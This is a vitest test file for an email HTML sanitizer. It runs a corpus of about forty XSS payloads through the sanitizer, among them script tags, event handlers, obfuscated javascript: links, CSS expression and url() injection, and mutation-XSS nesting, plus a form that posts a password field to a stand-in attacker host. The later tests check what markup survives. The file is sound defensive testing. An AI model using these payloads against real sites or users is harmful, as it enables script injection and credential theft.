// HTML from customers' mail, made safe for the agent's view: an XSS corpus through the allow-list,
// and what must survive it (tables, line breaks, our cid: images, remote images parked, not fetched).
import { describe, expect, it } from "vitest";
import { htmlToText, sanitizeEmailHtml } from "../channels/email/sanitize-html.ts";

const XSS: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<body onload=alert(1)><p>hi</p></body>",
  '<div onclick="alert(1)">click</div>',
  '<a href="https://ok.test" onmouseover="alert(1)">x</a>',
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)><circle r=1 /></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<iframe src="https://evil.test/frame"></iframe>',
  '<object data="https://evil.test/x.swf"><param name=x value=y></object>',
  '<embed src="https://evil.test/x.swf">',
  '<form action="https://evil.test/steal"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  "<style>@import url(https://evil.test/x.css); body { background: url(https://evil.test/b.png) }</style>",
  '<div style="background:url(https://evil.test/t.png)">x</div>',
  '<div style="color: red; background-image: url(javascript:alert(1))">x</div>',
  '<div style="behavior: url(x.htc); -moz-binding: url(https://evil.test/x.xml#x)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="color: \\75 rl(https://evil.test/)">x</p>',
  '<img src="x" style="x:expression(alert(1))">',
  '<img srcset="https://evil.test/a.png 1x, https://evil.test/b.png 2x">',
  '<video poster="https://evil.test/p.png"><source src="https://evil.test/v.mp4"></video>',
  '<table background="https://evil.test/bg.png"><tr><td background="https://evil.test/c.png">x</td></tr></table>',
  '<a href="//evil.test/x">protocol-relative</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.test/track.png" data-remote-src="javascript:alert(1)">',
  '<img src=" javascript:alert(1)">',
  "<xmp><script>alert(1)</script></xmp>",
  "<textarea><script>alert(1)</script></textarea>",
  '<isindex action="javascript:alert(1)" type="image">',
  "<!--<img src=x onerror=alert(1)>-->",
  '<div data-sb-quote="rest" onclick="alert(1)">spoofed marker</div>',
];

/** Every attribute of every tag in the output, as [tag, name, value]. */
function attributes(html: string): [string, string, string][] {
  const found: [string, string, string][] = [];
  for (const tag of html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)) {
    for (const attr of tag[2]!.matchAll(/([^\s="'/]+)(?:="([^"]*)")?/g)) found.push([tag[1]!.toLowerCase(), attr[1]!.toLowerCase(), attr[2] ?? ""]);
  }
  return found;
}

describe("sanitizeEmailHtml against XSS", () => {
  it.each(XSS)("%s", (payload) => {
    const out = sanitizeEmailHtml(payload);
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toMatch(/javascript:|vbscript:/i);
    expect(out).not.toMatch(/url\(/i);
    expect(out).not.toMatch(/<(svg|math|iframe|object|embed|form|meta|base|link|style|video|source|input|button)\b/i);
    for (const [tag, name, value] of attributes(out)) {
      expect(name, `${tag} ${name}`).not.toMatch(/^on/);
      expect(["srcset", "background", "poster", "action", "formaction", "xlink:href"]).not.toContain(name);
      const remote = /(^|[\s,])(https?:)?\/\//i.test(value);
      if (remote) expect(tag === "a" && name === "href" ? "a href" : name).toMatch(/^(data-remote-src|a href)$/);
      if (name === "data-remote-src") expect(value).toMatch(/^https?:\/\//);
    }
  });

  it("drops a protocol-relative link and links with other schemes, keeps https and mailto with rel and target", () => {
    expect(sanitizeEmailHtml('<a href="//evil.test/x">x</a>')).toBe('<a rel="noopener noreferrer" target="_blank">x</a>');
    expect(sanitizeEmailHtml('<a href="https://ok.test/a?b=1&amp;c=2">ok</a>')).toBe('<a rel="noopener noreferrer" target="_blank" href="https://ok.test/a?b=1&amp;c=2">ok</a>');
    expect(sanitizeEmailHtml('<a href="mailto:help@ourco.test">mail</a>')).toContain('href="mailto:help@ourco.test"');
  });
});

describe("what survives", () => {
  it("keeps a table with its cell attributes, a br and a cid image", () => {
    const html = '<table width="600" cellpadding="4"><tbody><tr><td colspan="2" align="center" bgcolor="#eeeeee">Order<br>#42</td></tr><tr><td><img src="cid:logo@ourco" alt="Logo"></td><td valign="top">Total</td></tr></tbody></table>';
    expect(sanitizeEmailHtml(html)).toBe(
      '<table width="600" cellpadding="4"><tbody><tr><td colspan="2" align="center" bgcolor="#eeeeee">Order<br />#42</td></tr><tr><td><img alt="Logo" src="cid:logo@ourco" /></td><td valign="top">Total</td></tr></tbody></table>',
    );
  });

  it("parks a remote image in data-remote-src, without src, keeping its alt", () => {
    expect(sanitizeEmailHtml('<img src="https://cdn.example.org/a.png" alt="Chart" width="100">')).toBe('<img alt="Chart" width="100" data-remote-src="https://cdn.example.org/a.png" />');
  });

  it("keeps a small data: image of an allowed type and safe inline styles only", () => {
    expect(sanitizeEmailHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe('<img src="data:image/png;base64,iVBORw0KGgo=" />');
    expect(sanitizeEmailHtml('<p style="color: #333; font-weight: bold; position: fixed; margin: 0 auto; border: 1px solid #ccc">x</p>')).toBe(
      '<p style="color:#333;font-weight:bold;margin:0 auto;border:1px solid #ccc">x</p>',
    );
  });

  it("folds blockquote type=cite and an Original Message block into details, keeping the reply visible", () => {
    expect(sanitizeEmailHtml('<p>Yes.</p><blockquote type="cite">Earlier</blockquote>')).toBe(
      '<p>Yes.</p><details class="sb-quoted"><summary>Quoted text</summary><blockquote>Earlier</blockquote></details>',
    );
    expect(sanitizeEmailHtml("<div><p>Fine by me</p><p>-----Original Message-----<br>From: Support</p><p>Old text</p></div>")).toBe(
      '<div><p>Fine by me</p><details class="sb-quoted"><summary>Quoted text</summary><p>-----Original Message-----<br />From: Support</p><p>Old text</p></details></div>',
    );
    expect(sanitizeEmailHtml("Thanks<br>-----Original Message-----<br>From: Support")).toBe(
      'Thanks<br /><details class="sb-quoted"><summary>Quoted text</summary>-----Original Message-----<br />From: Support</details>',
    );
  });

  it("shows HTML nested too deep for the parser as escaped text, quickly", () => {
    const started = Date.now();
    expect(sanitizeEmailHtml("<b>".repeat(600_000) + "deep <script>x</script>")).toBe("<pre>deep x</pre>");
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("turns HTML into plain text with line breaks and decoded entities", () => {
    expect(htmlToText("<style>p{}</style><p>Hello&nbsp;<b>you</b></p><p>a &lt;b&gt; &amp; c</p>line<br>two")).toBe("Hello you\na <b> & c\nline\ntwo");
  });
});
